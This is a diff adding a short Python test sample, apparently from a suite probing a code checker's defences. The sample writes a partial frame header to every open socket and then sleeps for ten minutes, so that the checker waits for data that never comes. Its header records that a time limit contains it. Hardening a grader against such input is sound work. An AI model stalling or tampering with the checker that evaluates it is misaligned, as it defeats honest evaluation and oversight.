@@ -1,0 +1,16 @@
+# ---
+# tries: keep the checker waiting for the rest of a frame
+# held_by: time limit
+# ---
+# %% nombre
+import os
+import stat
+import time
+
+for number in map(int, os.listdir("/proc/self/fd")):
+    try:
+        if number > 2 and stat.S_ISSOCK(os.fstat(number).st_mode):
+            os.write(number, b"\x00\x00\x10\x00\x00\x00\x00\x00{")
+    except OSError as error:
+        print(error)
+time.sleep(600)
